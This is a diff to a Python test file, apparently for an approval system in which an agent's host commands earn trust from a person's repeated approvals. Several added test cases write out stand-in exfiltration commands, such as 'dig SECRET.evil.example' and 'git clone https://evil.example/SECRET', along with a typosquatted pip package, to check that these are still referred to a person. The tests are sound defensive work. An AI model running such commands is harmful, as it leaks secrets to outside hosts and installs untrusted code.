@@ -203,6 +203,69 @@ async def test_it_answers_for_nothing_beyond_its_category(house: House, command:
     assert len(house.person.asked) == asked + 1
 
 
+@pytest.mark.parametrize(
+    ("known", "strange"),
+    [
+        ("dig example.org", "dig SECRET.evil.example"),
+        ("dig example.org", "dig example.org.evil.example"),
+        ("dig example.org", "dig EXAMPLE.org"),
+        ("host example.org", "nslookup evil.example"),
+        ("git clone https://example.org/team/repo", "git clone https://evil.example/SECRET"),
+        ("git clone https://example.org/team/repo", "git clone https://example.org:8443/team/repo"),
+        ("git clone https://example.org/team/repo", "git clone git@evil.example:SECRET"),
+        ("pip install requests", "pip install request"),
+        ("pip install requests", "pip install requests evil"),
+        ("apt install curl", "apt-get install evil"),
+    ],
+)
+async def test_what_was_earned_goes_to_nobody_with_whom_it_has_not_gone_well(
+    house: House, known: str, strange: str
+) -> None:
+    for _ in range(5):
+        run = house.run()
+        await run.on_host(known)
+        await run.settle()
+        await house.day()
+    assert known.rsplit(maxsplit=1)[-1].removesuffix("/team/repo") in house.person.asked[-1].detail
+    assert (await house.run().on_host(known)).via == "graduation"
+    asked = len(house.person.asked)
+    run = house.run()
+    assert (await run.on_host(strange)).via == "cell"
+    assert len(house.person.asked) == asked + 1
+    [noted] = [row.event.text for row in house.journal.events(kinds=("noted",)) if isinstance(row.event, Noted)]
+    assert "you are asked about it here: it has not gone well with " in noted
+    # A person has allowed it, and it went well: that is one more.
+    await run.settle()
+    assert (await house.run().on_host(strange)).via == "graduation"
+
+
+async def test_a_name_that_failed_or_that_a_marked_run_went_to_is_not_known(house: House) -> None:
+    for number in range(5):
+        run = house.run()
+        await run.on_host("dig example.org")
+        await run.settle()
+        await house.day()
+        if number == 0:
+            marked = house.run(untrusted=True)
+            await marked.on_host("dig marked.example")
+            await marked.settle()
+    assert (await house.run().on_host("dig marked.example")).via == "cell"
+    failing = house.run()
+    await failing.on_host("dig failed.example", exit_code=9)
+    await failing.settle()
+    assert TrustHistory(house.journal).look()["dns-read"].names == frozenset()
+
+
+async def test_a_deed_that_an_earlier_run_had_done_proves_nothing_here(house: House) -> None:
+    run = house.run()
+    await run.on_host(route="earlier")
+    await run.settle()
+    failing = house.run()
+    await failing.on_host(exit_code=1, route="earlier")
+    await failing.settle()
+    assert house.rows() == []
+
+
 async def test_where_git_would_run_hooks_it_is_asked_about_though_it_is_trusted(house: House) -> None:
     await house.earn()
     hook = house.project / ".git" / "hooks" / "pre-push"
@@ -302,15 +365,15 @@ async def test_a_persons_no_is_a_failure_and_silence_is_none(house: House, verdi
 
 async def test_a_verification_proves_what_has_no_exit_code(house: House) -> None:
     run = house.run()
-    await run.ask(ApprovalKind.NETWORK, host="dns.google", port=443)
+    await run.ask(ApprovalKind.LAUNCH, writable_root=True, credentials=())
     await run.settle(passed=True)
     [row] = house.rows()
-    assert (row.category, row.change, row.signal) == ("dns-read", "succeeded", "verification")
+    assert (row.category, row.change, row.signal) == ("packages", "succeeded", "verification")
 
 
 async def test_without_a_verification_there_is_no_word_about_it(house: House) -> None:
     run = house.run()
-    await run.ask(ApprovalKind.NETWORK, host="dns.google", port=443)
+    await run.ask(ApprovalKind.LAUNCH, writable_root=True, credentials=())
     await run.settle()
     assert house.rows() == []
 
@@ -451,7 +514,8 @@ async def test_no_answer_holds_for_a_session_where_something_is_locked(
 
 async def test_an_answer_for_a_session_holds_where_nothing_is_locked(house: House) -> None:
     house.person.answer = THIS_SESSION
-    decision = await house.run().ask(ApprovalKind.NETWORK, OPTIONS, host="dns.google", port=443)
+    command = {"command": "dig example.org", "directory": "/project"}
+    decision = await house.run().ask(ApprovalKind.HOST_COMMAND, OPTIONS, **command)
     assert decision.answer == THIS_SESSION
     assert house.person.asked[0].options == OPTIONS
 
@@ -463,7 +527,8 @@ async def test_what_was_demoted_is_locked_though_it_was_included(house: House) -
     )
     house.journal.append(lost)
     house.person.answer = THIS_SESSION
-    decision = await house.run().ask(ApprovalKind.NETWORK, OPTIONS, host="dns.google", port=443)
+    command = {"command": "dig example.org", "directory": "/project"}
+    decision = await house.run().ask(ApprovalKind.HOST_COMMAND, OPTIONS, **command)
     assert decision.answer == THIS_RUN
 
 
